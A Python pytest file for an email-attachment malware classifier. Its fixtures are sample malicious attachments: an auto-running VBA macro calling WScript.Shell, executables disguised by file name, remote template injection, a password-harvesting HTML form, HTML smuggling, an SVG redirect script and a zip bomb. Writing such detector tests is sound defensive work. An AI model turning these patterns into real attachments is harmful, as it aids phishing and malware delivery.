"""What hangs on a message is known by its content, not by what it is called."""

import base64

import pytest

from services.classifier.domain.evidence.executables import EICAR
from tests.classifier.compound_files import compound_file, macro_project, vba_module
from tests.classifier.letters import codes, letter, verdict, zipped

PROGRAM = b"MZ\x90\x00" + bytes(56) + b"\x40\x00\x00\x00" + b"PE\x00\x00" + bytes(200)
OPENS = 'Sub AutoOpen()\r\nCreateObject("WScript.Shell").Run "x"\r\nEnd Sub\r\n'
RELATION = (
    '<Relationships><Relationship Id="r1" TargetMode="{mode}" Type="http://schemas.openxml'
    'formats.org/officeDocument/2006/relationships/{type}" Target="{target}"/></Relationships>'
)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("invoice.pdf", PROGRAM),
        ("invoice.pdf.exe", b"x"),
        ("invoice.pdf          .scr", b"x"),
        ("run.js", b"x"),
        ("run.VBS ", b"x"),
        ("shortcut.lnk", b"x"),
        ("holiday.jpg", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100)),
        ("setup.msi", b"x"),
        ("eicar.txt", EICAR),
    ],
)
def test_a_program_is_malicious_whatever_its_name(name, content):
    found = verdict(letter(attachments=((name, content),)))

    assert found.disposition == "malicious"
    assert found.attributes == ("executable",)


def test_a_name_that_reverses_its_letters_is_disguise():
    assert "executable_disguised" in codes(letter(attachments=(("ann\u202efdp.exe", b"x"),)))


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("offer.pdf", b"%PDF-1.4 hello"),
        ("photo.jpg", b"\xff\xd8\xff\xe0" + bytes(100)),
        ("notes.txt", b"MZ is how a program starts"),
        ("www.example.com", b"\x89PNG" + bytes(30)),
        ("code.py", b"print('hello')"),
        ("table.csv", b"a;b"),
    ],
)
def test_an_ordinary_file_is_no_evidence(name, content):
    assert verdict(letter(attachments=((name, content),))).disposition == "none"


@pytest.mark.parametrize("name", ["disk.iso", "disk.img", "disk.vhd"])
def test_a_disk_image_is_malicious(name):
    assert verdict(letter(attachments=((name, b"x"),))).disposition == "malicious"


def test_a_program_alone_in_an_archive_is_malicious():
    archive = zipped({"invoice.pdf.js": b"x"})

    assert verdict(letter(attachments=(("invoice.zip", archive),))).disposition == "malicious"


def test_a_program_among_other_files_in_an_archive_is_suspicious():
    archive = zipped({"README": b"x", "tools/run.bat": b"x", "LICENSE": b"x"})

    assert verdict(letter(attachments=(("source.zip", archive),))).disposition == "suspicious"


def test_a_macro_that_starts_by_itself_and_acts_is_malicious():
    document = zipped({"[Content_Types].xml": b"", "word/vbaProject.bin": macro_project(OPENS)})

    found = verdict(letter(attachments=(("scan.docm", document),)))

    assert found.disposition == "malicious"
    assert found.reasons[0].code == "macro_dropper"
    assert found.attributes == ("macro",)


def test_macros_of_old_documents_are_found_by_their_streams():
    document = compound_file(
        {"Macros": {"x": b"x"}, "VBA": {"M": vba_module(OPENS)}}, {"WordDocument": b"x"}
    )

    assert "macro_dropper" in codes(letter(attachments=(("scan.doc", document),)))


def test_a_macro_that_only_calculates_is_marked_and_let_through():
    project = macro_project("Function Total(a, b)\r\nTotal = a + b\r\nEnd Function\r\n")
    document = zipped({"[Content_Types].xml": b"", "xl/vbaProject.bin": project})

    found = verdict(letter(attachments=(("budget.xlsm", document),)))

    assert (found.disposition, found.attributes) == ("none", ("macro",))


def test_a_macro_whose_reader_is_told_to_enable_it_is_malicious():
    document = zipped({"[Content_Types].xml": b"", "word/vbaProject.bin": b"broken"})
    raw = letter("If it looks empty, enable content.", attachments=(("a.docm", document),))

    assert verdict(raw).disposition == "malicious"


@pytest.mark.parametrize(
    ("type_", "mode", "target", "expected"),
    [
        ("attachedTemplate", "External", "http://files.example/t.dotm", True),
        ("oleObject", "External", "\\\\\\\\198.51.100.7\\\\share\\\\x", True),
        ("attachedTemplate", "External", "file:///C:/Templates/Letter.dotm", False),
        ("hyperlink", "External", "http://files.example/", False),
    ],
)
def test_a_template_fetched_from_elsewhere_is_malicious(type_, mode, target, expected):
    relations = RELATION.format(mode=mode, type=type_, target=target).encode()
    document = zipped({"[Content_Types].xml": b"", "word/_rels/settings.xml.rels": relations})

    found = verdict(letter(attachments=(("a.docx", document),)))

    assert (found.disposition == "malicious") is expected


def test_a_locked_archive_with_its_password_in_the_text_is_marked():
    content = bytearray(zipped({"a.xls": b"x" * 100}))
    content[6] |= 1
    content[content.index(b"PK\x01\x02") + 8] |= 1
    raw = letter("Open it. Password: 5521", attachments=(("a.zip", bytes(content)),))

    assert {"encrypted", "password_in_text"} <= codes(raw)
    assert verdict(raw).attributes == ("encrypted",)


@pytest.mark.parametrize(
    "page",
    [
        "<form action='https://x.example/'><input type=password></form>",
        "<script>d.innerHTML = atob('{}')</script>".format(
            base64.b64encode(b"<form action=x><input type='password' name=p></form>").decode()
        ),
        "<script>b=new Blob([Uint8Array.from(atob('TVqQ'))]);u=URL.createObjectURL(b)</script>",
    ],
)
def test_a_page_that_asks_for_a_password_or_builds_a_file_is_malicious(page):
    raw = letter(attachments=(("statement.html", f"<html>{page}</html>".encode()),))

    assert verdict(raw).disposition == "malicious"


def test_a_page_without_tricks_is_let_through():
    page = b"<html><body><h1>Report</h1><script>document.title = 'Report'</script></body></html>"

    assert verdict(letter(attachments=(("report.html", page),))).disposition == "none"


def test_a_picture_with_a_script_is_malicious():
    picture = (
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>location="//x.example"</script></svg>'
    )

    assert verdict(letter(attachments=(("logo.svg", picture),))).disposition == "malicious"


@pytest.mark.parametrize("cut", [100, 512, 600, 1100, 5000])
def test_a_document_cut_short_is_judged_all_the_same(cut):
    for name, whole in (
        ("a.doc", compound_file({"VBA": {"M": vba_module(OPENS)}}, {})),
        ("a.docm", zipped({"[Content_Types].xml": b"", "vbaProject.bin": macro_project(OPENS)})),
    ):
        assert verdict(letter(attachments=((name, whole[:cut]),))).retractable


def test_an_archive_that_unpacks_to_gigabytes_is_not_unpacked():
    bomb = zipped({"[Content_Types].xml": b"", "word/vbaProject.bin": bytes(50_000_000)})

    assert verdict(letter(attachments=(("a.docm", bomb),))).attributes == ("macro",)
